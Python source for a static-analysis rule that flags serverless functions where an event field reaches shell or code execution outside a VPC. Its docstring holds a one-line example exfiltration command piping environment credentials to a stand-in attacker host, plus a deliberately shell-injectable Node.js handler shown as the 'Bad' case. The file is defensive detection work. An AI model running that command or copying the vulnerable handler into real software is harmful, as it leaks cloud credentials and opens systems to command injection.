"""Who runs commands or code in the function can send the role's credentials wherever they like: nothing limits its connections.

## What it finds

A function in which a field of the event reaches a shell, a program or code, and which is in no VPC. What it finds is what an
attack on `shell-injection` and `code-injection` is good for; it is one finding for each function.

## Why it matters

The credentials of the role stand in the environment of every function. One `env | curl -d @- attacker.example` later they are
used from anywhere, until they expire, and nothing in this app sees it.

## How to mend it

Mend the injection first. Then let the function connect only where it must: the guard with the hosts of `remit.lock`, or a VPC
without a way to the internet and with endpoints for the services of AWS.

## Bad

```yaml template.yaml
Transform: AWS::Serverless-2016-10-31
Resources:
  Convert:
    Type: AWS::Serverless::Function
    Properties:
      Runtime: nodejs22.x
      Handler: app.handler
      CodeUri: .
      Environment: {Variables: {TABLE_NAME: documents}}
      Events:
        Get: {Type: HttpApi, Properties: {Method: GET, Path: /convert}}
```

```javascript app.js
const { execSync } = require("child_process");

exports.handler = async (event) => {
  const text = execSync(`curl --silent ${event.queryStringParameters.url}`).toString();
  return { statusCode: 200, body: text };
};
```

## Good

```yaml template.yaml
Transform: AWS::Serverless-2016-10-31
Resources:
  Convert:
    Type: AWS::Serverless::Function
    Properties:
      Runtime: nodejs22.x
      Handler: app.handler
      CodeUri: .
      Environment: {Variables: {TABLE_NAME: documents}}
      Events:
        Get: {Type: HttpApi, Properties: {Method: GET, Path: /convert}}
```

```javascript app.js
exports.handler = async (event) => {
  const answer = await fetch("https://documents.example/text?url=" + encodeURIComponent(event.queryStringParameters.url));
  return { statusCode: 200, body: await answer.text() };
};
```
"""

from collections.abc import Iterator

from remit.app.facts import Facts
from remit.app.flow import FIELD
from remit.app.model import Function, Sender
from remit.app.report import Finding, Fix, Hop, Severity
from remit.rules import Rule
from remit.rules._paths import trigger_of

_ID = "credentials-can-leave"
_RUNNING = ("process", "code", "deserialize")
_MOST_NAMES = 4


def _check(facts: Facts) -> Iterator[Finding]:
    told: set[str] = set()
    for kind in _RUNNING:
        for function, flow in facts.flows(kind, FIELD):
            if function.id in told or flow.detail.get("part") == "argument" or flow.confidence == "low":
                continue
            trigger = trigger_of(facts, function, flow)
            if trigger is None or trigger.sender < Sender.OTHER_ACCOUNT or _walled(function):
                continue
            told.add(function.id)
            names = list(function.environment)
            shown = ", ".join(names[:_MOST_NAMES]) + (" and more" if len(names) > _MOST_NAMES else "")
            yield Finding(
                rule=_ID,
                severity=Severity.MEDIUM,
                confidence=flow.confidence,
                message=f"{trigger.sender.phrase} can send the credentials of {function.id}{f', {shown}' if shown else ''} "
                "to any host: nothing limits where it connects",
                location=function.location,
                label="in no VPC, and any host is open",
                related=(Hop(flow.location, "what runs here runs with the credentials in its environment"),),
                function=function.id,
                fixes=(
                    Fix("mend the injection first"),
                    Fix("let it connect only where it must: the guard with remit.lock, or a VPC with endpoints"),
                ),
                content=kind,
            )


def _walled(function: Function) -> bool:
    """Whether the function is in a network of its own, whose way out others decide about."""
    return function.properties is not None and function.properties.get("VpcConfig") is not None


RULE = Rule(_ID, "credentials can leave", Severity.MEDIUM, ("CWE-200", "CWE-923", "OWASP-S3", "SAS-03"), _check)
